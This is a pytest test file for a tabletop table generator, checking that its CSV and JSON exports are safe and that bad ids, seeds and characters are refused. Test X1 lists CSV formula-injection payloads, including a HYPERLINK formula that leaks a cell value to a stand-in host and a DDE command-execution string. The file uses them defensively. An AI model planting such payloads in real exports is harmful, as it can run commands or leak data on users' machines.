"""Issue 28 §5 as tests: exports safe for the programs that open them (RELIABILITY.md rows X1–X7).

Each test builds the hostile input in tmp_path, runs the command as a user would and asserts the
refusal (one line, exit code) or the neutralised output, with the figure it reports.
"""

from __future__ import annotations

import csv
import errno
import io

import pytest

from dungeonpress import build, cli, export
from tests.conftest import run_cli as run

TABLE = """id: {id}
title: Mood
die: d6
source: {source}
columns: {{mood: Mood}}
rows:
  1: {one}
  2: {two}
  3: {three}
  4: {four}
  5: {five}
  6: {six}
"""
PLAIN = dict(one="Grim", two="Tense", three="Quiet", four="Calm", five="Odd", six="Wild")


@pytest.fixture
def pack(tmp_path, monkeypatch):
    """Write tables into tmp_path/pack (cwd is tmp_path, so messages read `pack/…`)."""
    monkeypatch.chdir(tmp_path)
    root = tmp_path / "pack"
    (root / "tables").mkdir(parents=True)

    def write(file_name: str, *, id: str, source: str = "a friend", **cells):
        text = TABLE.format(id=id, source=source, **{**PLAIN, **cells})
        (root / "tables" / file_name).write_text(text, encoding="utf-8")
        return root

    return write


# X1: cells a spreadsheet would run as formulas ------------------------------------------------

HOSTILE_CELLS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
                 "@SUM(1,2)", "\tTAB=1+1", "\rCR=1+1"]


def test_x1_csv_cells_that_start_a_formula_are_neutralised(pack, tmp_path):
    cells = dict(zip(("one", "two", "three", "four", "five", "six"),
                     ('"' + c.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r") + '"'
                      for c in HOSTILE_CELLS)))
    root = pack("mood.yaml", id="mood", **cells)
    code, _, err = run("export", "tables", "--format", "csv", "--table", "mood", "--content", root,
                       "--out", tmp_path / "out", "--quiet")
    assert (code, err) == (0, "")
    text = (tmp_path / "out/exports-pack/csv/mood.csv").read_bytes().decode("utf-8")  # keep the CR inside its cell
    rows = list(csv.reader(io.StringIO(text, newline="")))
    values = [row[4] for row in rows[1:]]
    assert len(rows) == 7  # a CR inside a cell never starts a new row
    assert values == ["'" + c.replace("\r", "\n") for c in HOSTILE_CELLS]  # figure: 0 of 6 cells start a formula
    assert not any(v.startswith(export.FORMULA_STARTS) for row in rows for v in row)


def test_x1_plain_cells_and_numbers_are_left_alone():
    assert export.csv_cell("Grim") == "Grim" and export.csv_cell(-3) == -3 and export.csv_cell("1–3") == "1–3"
    assert export.csv_cell("+1d4 STR") == "'+1d4 STR"
    assert export.csv_cell("ok\r=1+1") == "ok\n=1+1"  # quoted by the writer: one cell, not a new row


# X2: ids every export can write; X3: an export set is written all or nothing ---------------------

def test_x2_a_240_character_id_is_refused_before_anything_is_written(pack, tmp_path):
    long_id = "a" * 240
    root = pack(f"{long_id}.yaml", id=long_id)
    code, out, err = run("export", "tables", "--format", "json", "--content", root, "--out", tmp_path / "out")
    assert code == 1
    assert err.splitlines()[0] == (f"pack/tables/{long_id}.yaml:1: table 'id' must be lowercase letters, digits and _, "
                                   f"at most 64 characters (got 'aaaaaaaaaaaaaaaaaaaa'… of 240 characters)")
    assert not (tmp_path / "out").exists()  # figure: 0 files written (was 91, without index.json)


@pytest.mark.slow  # four whole exports
def test_x2_the_longest_id_allowed_fits_every_export(pack, tmp_path):
    longest = "b" * 64
    root = pack(f"{longest}.yaml", id=longest)
    for fmt in ("json", "csv", "foundry", "datasworn"):
        code, _, err = run("export", "tables", "--format", fmt, "--content", root, "--out", tmp_path / "out", "--quiet")
        assert (code, err) == (0, ""), fmt
    assert (tmp_path / f"out/exports-pack/json/{longest}.json").is_file()  # the pack's name is in the folder's


@pytest.mark.slow  # two whole JSON exports
def test_x3_a_failure_part_way_leaves_the_old_export_set_untouched(tmp_path, monkeypatch):
    out = tmp_path / "out"
    assert run("export", "tables", "--format", "json", "--out", out, "--quiet")[0] == 0
    folder = out / "exports" / "json"
    before = {p.name: p.read_bytes() for p in folder.iterdir()}
    real, calls = build.write_temp, []

    def full_disk(target, data):  # the disk fills up at the 40th file of the set
        calls.append(target)
        if len(calls) == 40:
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(target, data + b" ")  # every file of the new set differs from the old one

    monkeypatch.setattr(build, "write_temp", full_disk)
    code, _, err = run("export", "tables", "--format", "json", "--out", out, "--quiet")
    assert code == 1 and err.count("\n") == 1 and "No space left on device" in err
    after = {p.name: p.read_bytes() for p in folder.iterdir()}
    assert after == before  # figure: 0 files changed of the set, 0 temp files left


# X4: a table id from a file name with a line feed ---------------------------------------------

def test_x4_an_id_ending_in_a_line_feed_is_refused_on_one_line(pack, tmp_path):
    root = pack("nl\n.yaml", id='"nl\\n"')
    code, _, err = run("export", "tables", "--format", "json", "--content", root, "--out", tmp_path / "out")
    assert code == 1
    assert err.splitlines()[0] == ("pack/tables/nl\\n.yaml:1: table 'id' must be lowercase letters, digits and _, "
                                   "at most 64 characters (got 'nl\\n')")
    assert not (tmp_path / "out").exists()


# X5: a pack cannot claim the built-in sources' credit -----------------------------------------

@pytest.mark.parametrize("claimed", ["core", "dungeoneer", " Core "])
def test_x5_a_pack_table_cannot_name_a_built_in_source(pack, claimed):
    root = pack("mood.yaml", id="mood", source=f'"{claimed}"')
    code, _, err = run("validate", "--content", root)
    assert code == 1
    assert err.splitlines()[0] == (f"pack/tables/mood.yaml:4: table 'mood' has source '{claimed}', the name of a "
                                   f"built-in source (a pack credits itself: write who made the table)")


# X6: invisible characters warn, and fail under --strict ---------------------------------------

@pytest.mark.slow  # validates the whole content twice for each character
@pytest.mark.parametrize("char", ["\u202e", "\u200b", "\U000e0041"])
def test_x6_invisible_characters_warn_and_fail_under_strict(pack, tmp_path, char):
    root = pack("mood.yaml", id="mood", three=f'"Qu{char}iet"')
    line = (f"pack/tables/mood.yaml:9: row 3 of table 'mood' (mood) holds the invisible character "
            f"U+{ord(char):04X} (it can hide or reorder text; remove it)")
    code, out, err = run("validate", "--content", root)
    assert (code, err) == (0, f"warning: {line}\n") and out.endswith(", 1 warnings\n")
    code, _, err = run("export", "tables", "--format", "json", "--content", root, "--out", tmp_path / "out", "--strict")
    assert (code, err) == (1, f"error: {line}\n")
    assert not (tmp_path / "out").exists()  # figure: 0 exports made from flagged content under --strict


def test_x6_the_built_in_content_has_no_invisible_characters(content):
    assert [w for w in content.warnings if "invisible character" in w] == []


# X7: a seed too long to name a file ------------------------------------------------------------

def test_x7_a_250_digit_seed_is_a_usage_error_before_any_work(tmp_path, monkeypatch):
    def no_work(*_args, **_kwargs):
        raise AssertionError("content was read for a seed that cannot be used")

    monkeypatch.setattr(build, "load_content", no_work)
    code, out, err = run("dungeon", "--seed", "7" * 250, "--out", tmp_path / "out")
    assert (code, out) == (cli.EXIT_USAGE, "")
    assert err == "dungeonpress dungeon: error: --seed must be a whole number of at most 18 digits (got one of 250 digits)\n"
    assert not (tmp_path / "out").exists()
